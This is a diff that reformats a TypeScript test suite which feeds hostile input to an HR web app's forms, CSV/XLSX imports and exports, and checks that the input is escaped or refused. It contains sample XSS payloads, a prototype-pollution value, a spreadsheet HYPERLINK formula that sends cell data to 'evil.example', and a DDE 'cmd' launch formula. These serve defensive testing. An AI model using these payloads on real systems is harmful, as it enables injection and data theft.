@@ -32,8 +32,17 @@ let curatorToken: string;
 let hrBkpsdm: Agent;
 beforeAll(async () => {
   w = await createWorld();
-  [admin, hr, curator, hrBkpsdm] = await Promise.all([w.agent('admin'), w.agent('hrOpd'), w.agent('curator'), w.agent('hrBkpsdm')]);
-  [adminToken, hrToken, curatorToken] = await Promise.all([tokenOf(admin, '/'), tokenOf(hr, '/'), tokenOf(curator, '/')]);
+  [admin, hr, curator, hrBkpsdm] = await Promise.all([
+    w.agent('admin'),
+    w.agent('hrOpd'),
+    w.agent('curator'),
+    w.agent('hrBkpsdm'),
+  ]);
+  [adminToken, hrToken, curatorToken] = await Promise.all([
+    tokenOf(admin, '/'),
+    tokenOf(hr, '/'),
+    tokenOf(curator, '/'),
+  ]);
 }, 60_000);
 afterAll(async () => w.close());
 
@@ -41,10 +50,15 @@ let nipCounter = 900;
 const freshNip = () => makeNip(nipCounter++);
 
 /** A response is acceptable: an expected status, and HTML with nothing injected. */
-function check(what: string, res: { status: number; text: string; headers: Record<string, unknown> }, statuses: number[]): string[] {
+function check(
+  what: string,
+  res: { status: number; text: string; headers: Record<string, unknown> },
+  statuses: number[],
+): string[] {
   const problems: string[] = [];
   if (!statuses.includes(res.status)) problems.push(`${what}: status ${res.status}`);
-  if (String(res.headers['content-type'] ?? '').startsWith('text/html')) for (const p of injectedElements(res.text)) problems.push(`${what}: ${p}`);
+  if (String(res.headers['content-type'] ?? '').startsWith('text/html'))
+    for (const p of injectedElements(res.text)) problems.push(`${what}: ${p}`);
   return problems;
 }
 
@@ -54,21 +68,80 @@ describe('forms given hostile input', () => {
   it('people: every payload in every text field is saved as text or refused with 422, and the answer injects nothing', async () => {
     const problems: string[] = [];
     for (const payload of [...TEXT_PAYLOADS, ...LONG_PAYLOADS]) {
-      const base = { _csrf: hrToken, nip: freshNip(), name: `Nama ${payload}`, employeeType: 'pns', golongan: 'III/a', jabatan: payload, unitKerja: payload, email: '' };
-      problems.push(...check(`create ${short(payload)}`, await hr.post('/admin/users').type('form').send(base), [201, 422]));
+      const base = {
+        _csrf: hrToken,
+        nip: freshNip(),
+        name: `Nama ${payload}`,
+        employeeType: 'pns',
+        golongan: 'III/a',
+        jabatan: payload,
+        unitKerja: payload,
+        email: '',
+      };
+      problems.push(
+        ...check(
+          `create ${short(payload)}`,
+          await hr.post('/admin/users').type('form').send(base),
+          [201, 422],
+        ),
+      );
     }
     // Fields that must refuse any of these (422 before anything is saved, so these are cheap).
     for (const payload of [...HTML_PAYLOADS, ...OPERATOR_PAYLOADS, ...CONTROL_PAYLOADS, LONG_PAYLOADS[0]]) {
-      const base = { _csrf: hrToken, nip: freshNip(), name: 'Nama Uji', employeeType: 'pns', golongan: 'III/a', jabatan: '', unitKerja: '', email: payload };
-      problems.push(...check(`create with email ${short(payload)}`, await hr.post('/admin/users').type('form').send(base), [422]));
-      problems.push(...check(`create with nip ${short(payload)}`, await hr.post('/admin/users').type('form').send({ ...base, email: '', nip: payload }), [422]));
-      problems.push(...check(`create with golongan ${short(payload)}`, await hr.post('/admin/users').type('form').send({ ...base, email: '', golongan: payload }), [422]));
+      const base = {
+        _csrf: hrToken,
+        nip: freshNip(),
+        name: 'Nama Uji',
+        employeeType: 'pns',
+        golongan: 'III/a',
+        jabatan: '',
+        unitKerja: '',
+        email: payload,
+      };
+      problems.push(
+        ...check(
+          `create with email ${short(payload)}`,
+          await hr.post('/admin/users').type('form').send(base),
+          [422],
+        ),
+      );
+      problems.push(
+        ...check(
+          `create with nip ${short(payload)}`,
+          await hr
+            .post('/admin/users')
+            .type('form')
+            .send({ ...base, email: '', nip: payload }),
+          [422],
+        ),
+      );
+      problems.push(
+        ...check(
+          `create with golongan ${short(payload)}`,
+          await hr
+            .post('/admin/users')
+            .type('form')
+            .send({ ...base, email: '', golongan: payload }),
+          [422],
+        ),
+      );
     }
     expect(problems).toEqual([]);
   }, 90_000);
 
   it('people: the 422 page shows what was typed, escaped, with a message next to the field', async () => {
-    const res = await hr.post('/admin/users').type('form').send({ _csrf: hrToken, nip: HTML_PAYLOADS[0], name: HTML_PAYLOADS[0], employeeType: 'pns', golongan: 'III/a', jabatan: '', unitKerja: '' });
+    const res = await hr
+      .post('/admin/users')
+      .type('form')
+      .send({
+        _csrf: hrToken,
+        nip: HTML_PAYLOADS[0],
+        name: HTML_PAYLOADS[0],
+        employeeType: 'pns',
+        golongan: 'III/a',
+        jabatan: '',
+        unitKerja: '',
+      });
     expect(res.status).toBe(422);
     expect(res.text).toContain('&#34;&gt;&lt;img src=x onerror=alert(1) data-pwn=1&gt;');
     expect(res.text).toMatch(/class="[^"]*error[^"]*"[^>]*>[^<]*NIP/i);
@@ -78,13 +151,45 @@ describe('forms given hostile input', () => {
   it('people: editing a person with hostile values, invalid UTF-8 or an oversized body never fails with 500', async () => {
     const problems: string[] = [];
     for (const payload of HTML_PAYLOADS) {
-      const res = await hr.post(`/admin/users/${w.ids.personInA}`).type('form').send({ _csrf: hrToken, nip: '', name: `Siti ${payload}`, employeeType: 'non_asn', email: 'siti@uji.pemkomedan.go.id', jabatan: payload, unitKerja: payload });
+      const res = await hr
+        .post(`/admin/users/${w.ids.personInA}`)
+        .type('form')
+        .send({
+          _csrf: hrToken,
+          nip: '',
+          name: `Siti ${payload}`,
+          employeeType: 'non_asn',
+          email: 'siti@uji.pemkomedan.go.id',
+          jabatan: payload,
+          unitKerja: payload,
+        });
       problems.push(...check(`edit ${short(payload)}`, res, [302, 422]));
     }
     const raw = `_csrf=${encodeURIComponent(hrToken)}&nip=${freshNip()}&name=Nama${INVALID_UTF8_FORM}&employeeType=pns&golongan=III%2Fa&jabatan=${INVALID_UTF8_FORM}&unitKerja=x`;
-    problems.push(...check('create with invalid UTF-8', await hr.post('/admin/users').type('form').send(raw), [201, 400, 422]));
-    problems.push(...check('body over the limit', await hr.post('/admin/users').type('form').send(`_csrf=${encodeURIComponent(hrToken)}&name=${'A'.repeat(300_000)}`), [413]));
-    problems.push(...check('malformed JSON', await hr.post('/admin/users').set('Content-Type', 'application/json').send('{"_csrf":'), [400, 403]));
+    problems.push(
+      ...check(
+        'create with invalid UTF-8',
+        await hr.post('/admin/users').type('form').send(raw),
+        [201, 400, 422],
+      ),
+    );
+    problems.push(
+      ...check(
+        'body over the limit',
+        await hr
+          .post('/admin/users')
+          .type('form')
+          .send(`_csrf=${encodeURIComponent(hrToken)}&name=${'A'.repeat(300_000)}`),
+        [413],
+      ),
+    );
+    problems.push(
+      ...check(
+        'malformed JSON',
+        await hr.post('/admin/users').set('Content-Type', 'application/json').send('{"_csrf":'),
+        [400, 403],
+      ),
+    );
     expect(problems).toEqual([]);
   });
 
@@ -92,10 +197,37 @@ describe('forms given hostile input', () => {
     const problems: string[] = [];
     let n = 0;
     for (const payload of [...HTML_PAYLOADS, ...FORMULA_PAYLOADS, LONG_PAYLOADS[0]]) {
-      problems.push(...check(`name ${short(payload)}`, await curator.post('/admin/institutions').type('form').send({ _csrf: curatorToken, code: `HOSTIL${n++}`, name: `Dinas ${payload}`, kind: 'opd' }), [302, 422]));
-      problems.push(...check(`code ${short(payload)}`, await curator.post('/admin/institutions').type('form').send({ _csrf: curatorToken, code: payload, name: 'Dinas Baru', kind: 'opd' }), [422]));
+      problems.push(
+        ...check(
+          `name ${short(payload)}`,
+          await curator
+            .post('/admin/institutions')
+            .type('form')
+            .send({ _csrf: curatorToken, code: `HOSTIL${n++}`, name: `Dinas ${payload}`, kind: 'opd' }),
+          [302, 422],
+        ),
+      );
+      problems.push(
+        ...check(
+          `code ${short(payload)}`,
+          await curator
+            .post('/admin/institutions')
+            .type('form')
+            .send({ _csrf: curatorToken, code: payload, name: 'Dinas Baru', kind: 'opd' }),
+          [422],
+        ),
+      );
     }
-    problems.push(...check('kind', await curator.post('/admin/institutions').type('form').send({ _csrf: curatorToken, code: 'KIND1', name: 'Dinas', kind: '__proto__' }), [422]));
+    problems.push(
+      ...check(
+        'kind',
+        await curator
+          .post('/admin/institutions')
+          .type('form')
+          .send({ _csrf: curatorToken, code: 'KIND1', name: 'Dinas', kind: '__proto__' }),
+        [422],
+      ),
+    );
     expect(problems).toEqual([]);
   });
 
@@ -104,21 +236,82 @@ describe('forms given hostile input', () => {
     const visitor = await w.agent('anonymous');
     const token = await tokenOf(visitor);
     for (const payload of [...TEXT_PAYLOADS, LONG_PAYLOADS[0]]) {
-      problems.push(...check(`login ${short(payload)}`, await visitor.post('/login').type('form').send({ _csrf: token, identifier: payload, password: payload }), [401, 422, 429]));
-      problems.push(...check(`language ${short(payload)}`, await visitor.post('/language').type('form').send({ _csrf: token, lang: payload, returnTo: payload }), [302]));
+      problems.push(
+        ...check(
+          `login ${short(payload)}`,
+          await visitor
+            .post('/login')
+            .type('form')
+            .send({ _csrf: token, identifier: payload, password: payload }),
+          [401, 422, 429],
+        ),
+      );
+      problems.push(
+        ...check(
+          `language ${short(payload)}`,
+          await visitor
+            .post('/language')
+            .type('form')
+            .send({ _csrf: token, lang: payload, returnTo: payload }),
+          [302],
+        ),
+      );
     }
-    for (const payload of [...HTML_PAYLOADS.slice(0, 3), ...OPERATOR_PAYLOADS.slice(0, 2), CONTROL_PAYLOADS[0], LONG_PAYLOADS[0]]) {
-      problems.push(...check(`password ${short(payload)}`, await admin.post('/account/password').type('form').send({ _csrf: adminToken, currentPassword: payload, newPassword: payload, confirmPassword: payload }), [422, 429]));
+    for (const payload of [
+      ...HTML_PAYLOADS.slice(0, 3),
+      ...OPERATOR_PAYLOADS.slice(0, 2),
+      CONTROL_PAYLOADS[0],
+      LONG_PAYLOADS[0],
+    ]) {
+      problems.push(
+        ...check(
+          `password ${short(payload)}`,
+          await admin
+            .post('/account/password')
+            .type('form')
+            .send({
+              _csrf: adminToken,
+              currentPassword: payload,
+              newPassword: payload,
+              confirmPassword: payload,
+            }),
+          [422, 429],
+        ),
+      );
     }
-    problems.push(...check('login with invalid UTF-8', await visitor.post('/login').type('form').send(`_csrf=${encodeURIComponent(token)}&identifier=${INVALID_UTF8_FORM}&password=${INVALID_UTF8_FORM}`), [401, 422, 429]));
-    const cookie = ((await visitor.post('/language').type('form').send({ _csrf: token, lang: '<script>' })).headers['set-cookie'] as unknown as string[] | undefined) ?? [];
+    problems.push(
+      ...check(
+        'login with invalid UTF-8',
+        await visitor
+          .post('/login')
+          .type('form')
+          .send(
+            `_csrf=${encodeURIComponent(token)}&identifier=${INVALID_UTF8_FORM}&password=${INVALID_UTF8_FORM}`,
+          ),
+        [401, 422, 429],
+      ),
+    );
+    const cookie =
+      ((await visitor.post('/language').type('form').send({ _csrf: token, lang: '<script>' })).headers[
+        'set-cookie'
+      ] as unknown as string[] | undefined) ?? [];
     expect(cookie.filter((c) => c.startsWith('binaasn.lang='))).toEqual([]); // an unknown language is not stored
     expect(problems).toEqual([]);
   }, 60_000);
 });
 
 describe('imports given hostile files', () => {
-  const hostileRows = () => [...HTML_PAYLOADS, ...FORMULA_PAYLOADS].map((p) => [freshNip(), `Nama ${p}`, '', 'PNS', 'III/a', p, p, 'DISDUKCAPIL']);
+  const hostileRows = () =>
+    [...HTML_PAYLOADS, ...FORMULA_PAYLOADS].map((p) => [
+      freshNip(),
+      `Nama ${p}`,
+      '',
+      'PNS',
+      'III/a',
+      p,
+      p,
+      'DISDUKCAPIL',
+    ]);
 
   it('CSV: hostile cells, headers and file names give a preview that injects nothing, and can be applied', async () => {
     const problems: string[] = [];
@@ -127,28 +320,47 @@ describe('imports given hostile files', () => {
     let preview = '';
     for (const fileName of HOSTILE_FILE_NAMES) {
       const token = await tokenOf(hr, '/admin/users/import');
-      const res = await hr.post('/admin/users/import').field('_csrf', token).attach('file', csvOf(rows, header), fileName);
+      const res = await hr
+        .post('/admin/users/import')
+        .field('_csrf', token)
+        .attach('file', csvOf(rows, header), fileName);
       problems.push(...check(`upload ${short(fileName)}`, res, [303]));
       if (res.status !== 303) continue;
       preview = String(res.headers.location);
       const page = await hr.get(preview);
       problems.push(...check(`preview of ${short(fileName)}`, page, [200]));
-      if (fileName.includes('onerror')) expect(page.text).toContain('&#34;&gt;&lt;img src=x onerror=alert(1) data-pwn&gt;.csv');
+      if (fileName.includes('onerror'))
+        expect(page.text).toContain('&#34;&gt;&lt;img src=x onerror=alert(1) data-pwn&gt;.csv');
     }
     expect(problems).toEqual([]);
     const confirm = await hr.post(`${preview}/confirm`).type('form').send({ _csrf: hrToken });
     expect(confirm.status).toBe(303);
     const applied = await hr.get(preview);
     expect(check('applied preview', applied, [200])).toEqual([]);
-    const saved = await w.t.db.client.db(w.t.db.dbName).collection('users').countDocuments({ jabatan: { $in: [...HTML_PAYLOADS, ...FORMULA_PAYLOADS].map((p) => p.trim()) } });
+    const saved = await w.t.db.client
+      .db(w.t.db.dbName)
+      .collection('users')
+      .countDocuments({ jabatan: { $in: [...HTML_PAYLOADS, ...FORMULA_PAYLOADS].map((p) => p.trim()) } });
     expect(saved).toBeGreaterThanOrEqual(HTML_PAYLOADS.length);
   }, 60_000);
 
   it('XLSX: formula cells stay text and hostile cells inject nothing', async () => {
     const rows: unknown[][] = hostileRows();
-    rows.push([freshNip(), { formula: 'HYPERLINK("http://evil.example","Klik")' }, '', 'PNS', 'III/a', { formula: 'cmd|\' /C calc\'!A0' }, '<b data-pwn>x</b>', 'DISDUKCAPIL']);
+    rows.push([
+      freshNip(),
+      { formula: 'HYPERLINK("http://evil.example","Klik")' },
+      '',
+      'PNS',
+      'III/a',
+      { formula: "cmd|' /C calc'!A0" },
+      '<b data-pwn>x</b>',
+      'DISDUKCAPIL',
+    ]);
     const token = await tokenOf(hr, '/admin/users/import');
-    const res = await hr.post('/admin/users/import').field('_csrf', token).attach('file', await xlsxOf(rows as never), 'pegawai.xlsx');
+    const res = await hr
+      .post('/admin/users/import')
+      .field('_csrf', token)
+      .attach('file', await xlsxOf(rows as never), 'pegawai.xlsx');
     expect(res.status).toBe(303);
     const page = await hr.get(String(res.headers.location));
     expect(check('xlsx preview', page, [200])).toEqual([]);
@@ -157,7 +369,14 @@ describe('imports given hostile files', () => {
 
   it('refuses invalid UTF-8, binary and empty files with 422 and a clear message, never 500', async () => {
     const cases: [string, Buffer][] = [
-      ['invalid UTF-8', Buffer.concat([Buffer.from(`${HEADER.join(',')}\r\n`), INVALID_UTF8, Buffer.from(',x,,PNS,III/a,x,x,DISDUKCAPIL\r\n')])],
+      [
+        'invalid UTF-8',
+        Buffer.concat([
+          Buffer.from(`${HEADER.join(',')}\r\n`),
+          INVALID_UTF8,
+          Buffer.from(',x,,PNS,III/a,x,x,DISDUKCAPIL\r\n'),
+        ]),
+      ],
       ['binary', Buffer.from([0x00, 0x01, 0x02, 0x03, 0xff, 0x00])],
       ['empty', Buffer.alloc(0)],
       ['header only', Buffer.from(`${HEADER.join(',')}\r\n`)],
@@ -165,8 +384,14 @@ describe('imports given hostile files', () => {
     ];
     for (const [what, bytes] of cases) {
       const token = await tokenOf(hr, '/admin/users/import');
-      const res = await hr.post('/admin/users/import').field('_csrf', token).attach('file', bytes, `${what}.csv`);
-      expect({ what, status: res.status }).toEqual({ what, status: [400, 422].includes(res.status) ? res.status : 422 });
+      const res = await hr
+        .post('/admin/users/import')
+        .field('_csrf', token)
+        .attach('file', bytes, `${what}.csv`);
+      expect({ what, status: res.status }).toEqual({
+        what,
+        status: [400, 422].includes(res.status) ? res.status : 422,
+      });
       expect(res.text).toMatch(/class="[^"]*(error|alert)[^"]*"/);
       expect(injectedElements(res.text)).toEqual([]);
     }
@@ -179,10 +404,25 @@ describe('pages and exports showing hostile data', () => {
     const agents = { admin, hrOpd: hr, hrBkpsdm, curator };
     for (const role of ['admin', 'hrOpd', 'hrBkpsdm', 'curator'] as const) {
       const agent = agents[role];
-      const start = ['/', '/admin/users', '/admin/users?status=active', `/admin/users?q=${encodeURIComponent(HTML_PAYLOADS[0])}`, '/admin/institutions', '/admin/audit', `/admin/audit?action=${encodeURIComponent(HTML_PAYLOADS[1])}`, '/admin/akses', '/data-saya'];
-      const result = await crawl(agent, start, { maxPages: role === 'admin' ? 90 : 45, skip: (p) => p.includes('export') || p.includes('unduh') || p.endsWith('.csv') });
-      for (const [path, status] of result.visited) if (status >= 500) problems.push(`${role} ${path}: ${status}`);
-      for (const [path, html] of result.pages) for (const p of injectedElements(html)) problems.push(`${role} ${path}: ${p}`);
+      const start = [
+        '/',
+        '/admin/users',
+        '/admin/users?status=active',
+        `/admin/users?q=${encodeURIComponent(HTML_PAYLOADS[0])}`,
+        '/admin/institutions',
+        '/admin/audit',
+        `/admin/audit?action=${encodeURIComponent(HTML_PAYLOADS[1])}`,
+        '/admin/akses',
+        '/data-saya',
+      ];
+      const result = await crawl(agent, start, {
+        maxPages: role === 'admin' ? 90 : 45,
+        skip: (p) => p.includes('export') || p.includes('unduh') || p.endsWith('.csv'),
+      });
+      for (const [path, status] of result.visited)
+        if (status >= 500) problems.push(`${role} ${path}: ${status}`);
+      for (const [path, html] of result.pages)
+        for (const p of injectedElements(html)) problems.push(`${role} ${path}: ${p}`);
       expect(result.pages.size).toBeGreaterThan(5);
     }
     expect(problems).toEqual([]);
@@ -191,9 +431,17 @@ describe('pages and exports showing hostile data', () => {
   it('neutralise every formula in the people CSV export, while keeping the data', async () => {
     const res = await admin.get('/admin/users/export.csv');
     expect(res.status).toBe(200);
-    const cells = (parseCsv(res.text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
+    const cells = (
+      parseCsv(res.text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]
+    ).flat();
     expect(cells.filter(isFormula)).toEqual([]);
-    expect(cells).toEqual(expect.arrayContaining(["'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")", "'+1+1", "'@SUM(1+1)*cmd|' /C calc'!A0"]));
+    expect(cells).toEqual(
+      expect.arrayContaining([
+        '\'=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
+        "'+1+1",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+      ]),
+    );
     expect(cells.some((c) => c.includes('<img src=x onerror=alert(1) data-pwn=1>'))).toBe(true); // text stays text in a CSV
   });
 
